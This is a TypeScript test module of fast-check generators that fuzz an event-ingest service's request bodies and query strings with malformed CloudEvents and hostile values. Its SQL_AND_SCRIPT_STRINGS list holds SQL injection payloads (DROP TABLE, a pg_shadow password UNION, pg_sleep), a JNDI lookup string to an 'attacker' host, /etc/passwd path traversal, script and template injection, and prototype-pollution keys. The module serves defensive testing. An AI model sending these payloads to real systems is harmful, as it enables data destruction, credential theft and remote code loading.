/**
 * fast-check arbitraries of what an attacker or a broken client sends: wrong types, huge numbers,
 * deep nesting, unicode, SQL- and script-looking strings, oversized strings, and valid CloudEvents
 * with one attribute or data field removed, retyped or added.
 */
import { EventTypeName } from '@opsline/contracts';
import {
  ABSENT,
  exampleEvent,
  exampleEventWith,
  PlainCloudEvent,
} from '@opsline/contracts/testing/example-events';
import fc from 'fast-check';

export const SQL_AND_SCRIPT_STRINGS = [
  "' OR '1'='1",
  "'; DROP TABLE orders.orders; --",
  '1; SELECT pg_sleep(10)--',
  "ORD-1' UNION SELECT password FROM pg_shadow --",
  '"; DELETE FROM inventory.stock_positions; --',
  '\\x00\\u0000',
  '\u0000',
  '%00%27',
  '${jndi:ldap://attacker/x}',
  '../../../../etc/passwd',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '__proto__',
  'constructor',
];

export const HUGE_NUMBERS = [
  Number.MAX_SAFE_INTEGER + 2,
  -Number.MAX_SAFE_INTEGER - 2,
  1e308,
  -1e308,
  1e21,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 63,
  Number.MIN_VALUE,
  -0,
  0.5,
  -1,
];

/** An object or array nested `depth` levels deep. */
export function nested(depth: number, asArray: boolean): unknown {
  let value: unknown = 'bottom';
  for (let level = 0; level < depth; level++) value = asArray ? [value] : { a: value };
  return value;
}

const unicodeStrings = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(
    'ＯＲＤ－１',
    'ORD\u200b1',
    'WH‐1',
    '🧨💥',
    'e\u0301',
    '\uffff',
    '\ud800',
    'ß'.repeat(70),
    'ORD-1\n',
  ),
);

/** A scalar or a structure no field of the contract accepts, or only by accident. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...SQL_AND_SCRIPT_STRINGS),
  fc.constantFrom(...HUGE_NUMBERS),
  unicodeStrings,
  fc.integer({ min: 65, max: 200_000 }).map((length) => 'A'.repeat(length)),
  fc.integer({ min: 20, max: 3_000 }).chain((depth) => fc.boolean().map((asArray) => nested(depth, asArray))),
  fc.jsonValue({ maxDepth: 3 }),
  fc.constantFrom(null, true, false, 0, '', [], {}, [[]], { '': null }),
);

/** `a.b[0].c` paths of every leaf and container under `value`. */
export function pathsOf(value: unknown, prefix = ''): string[] {
  if (typeof value !== 'object' || value === null) return [];
  const entries = Array.isArray(value)
    ? value.map((item, index) => [`${prefix}[${index}]`, item] as const)
    : Object.entries(value).map(([key, item]) => [prefix === '' ? key : `${prefix}.${key}`, item] as const);
  return entries.flatMap(([path, item]) => [path, ...pathsOf(item, path)]);
}

/** One change to a valid event: a field removed, a field retyped, or an extra attribute. */
export function mutatedEvent(types: readonly EventTypeName[]): fc.Arbitrary<PlainCloudEvent> {
  return fc.constantFrom(...types).chain((type) => {
    const paths = pathsOf(exampleEvent(type));
    return fc.oneof(
      fc.constantFrom(...paths).map((path) => exampleEventWith(type, { [path]: ABSENT })),
      fc
        .tuple(fc.constantFrom(...paths), hostileValue)
        .map(([path, value]) => exampleEventWith(type, { [path]: value })),
      fc
        .tuple(
          fc.oneof(fc.constantFrom('Extra', 'x-y', 'a'.repeat(30), '__proto__'), fc.string()),
          hostileValue,
        )
        .map(([name, value]) => ({ ...exampleEvent(type), [name]: value })),
    );
  });
}

/** A request body for an ingest twin: anything JSON, or a mutated event. */
export function ingestBody(types: readonly EventTypeName[]): fc.Arbitrary<unknown> {
  return fc.oneof(
    { arbitrary: mutatedEvent(types), weight: 4 },
    { arbitrary: hostileValue, weight: 1 },
    { arbitrary: fc.jsonValue({ maxDepth: 5 }), weight: 1 },
  );
}

/** A batch: valid events with one or more mutated ones, unique ids, or anything JSON. */
export function ingestBatchBody(types: readonly EventTypeName[]): fc.Arbitrary<unknown> {
  const valid = fc.constantFrom(...types).map((type) => exampleEvent(type));
  return fc.oneof(
    {
      arbitrary: fc
        .array(fc.oneof(valid, mutatedEvent(types), hostileValue), { minLength: 1, maxLength: 6 })
        .map((events) =>
          events.map((event, index) =>
            typeof event === 'object' && event !== null && !Array.isArray(event) && 'id' in event
              ? { ...event, id: `${String((event as { id: unknown }).id)}-${index}` }
              : event,
          ),
        ),
      weight: 4,
    },
    { arbitrary: hostileValue, weight: 1 },
  );
}

/** A query string value: hostile strings, numbers as text, repeated parameters, broken encodings. */
export const hostileQueryValue: fc.Arbitrary<string | string[]> = fc.oneof(
  fc.constantFrom(...SQL_AND_SCRIPT_STRINGS),
  fc.constantFrom(...HUGE_NUMBERS.map(String)),
  unicodeStrings,
  fc.integer({ min: 65, max: 5_000 }).map((length) => 'Z'.repeat(length)),
  fc.constantFrom(
    '',
    'null',
    'undefined',
    '[]',
    '{}',
    'true',
    '2026-02-30T00:00:00.000Z',
    '2026-11-20',
    '0001-01-01T00:00:00.000Z',
    '9999-12-31T23:59:59.999Z',
    '2026-11-20T10:00:00.000+25:00',
    'hour',
    'DAY',
    'day ',
  ),
  fc.array(fc.constantFrom('a', 'day', '2026-11-20T00:00:00.000Z', "' OR 1=1"), {
    minLength: 2,
    maxLength: 3,
  }),
);

/** `from` and `to` in order when both are plain strings, so plausible ranges are not empty. */
function orderedRange(
  query: Readonly<Record<string, string | string[] | undefined>>,
): Record<string, string | string[]> {
  const present = Object.fromEntries(
    Object.entries(query).filter((entry): entry is [string, string | string[]] => entry[1] !== undefined),
  );
  const { from, to } = present;
  return typeof from === 'string' && typeof to === 'string' && from > to
    ? { ...present, from: to, to: from }
    : present;
}

/**
 * A query: either only plausible values of known parameters, or some of them hostile and perhaps an
 * unknown parameter as well.
 */
export function hostileQuery(
  known: Record<string, fc.Arbitrary<string>>,
): fc.Arbitrary<Record<string, string | string[]>> {
  const hostile = Object.fromEntries(
    Object.entries(known).map(([name, plausible]) => [name, fc.oneof(plausible, hostileQueryValue)]),
  );
  const unknownParameter = fc.option(
    fc.tuple(
      fc.oneof(fc.constantFrom('__proto__', 'limit[]', 'from[0]', "x' OR 1=1"), fc.string()),
      hostileQueryValue,
    ),
  );
  return fc
    .oneof(
      fc.record(known, { requiredKeys: [] }),
      fc
        .tuple(fc.record(hostile, { requiredKeys: [] }), unknownParameter)
        .map(([query, extra]) => (extra === null ? query : { ...query, [extra[0]]: extra[1] })),
    )
    .map(orderedRange);
}

/** `?a=1&a=2&b=…`, every value percent-encoded. */
export function queryString(query: Record<string, string | string[]>): string {
  const parameters = new URLSearchParams();
  for (const [name, value] of Object.entries(query)) {
    for (const item of Array.isArray(value) ? value : [value]) parameters.append(name, item);
  }
  const text = parameters.toString();
  return text === '' ? '' : `?${text}`;
}
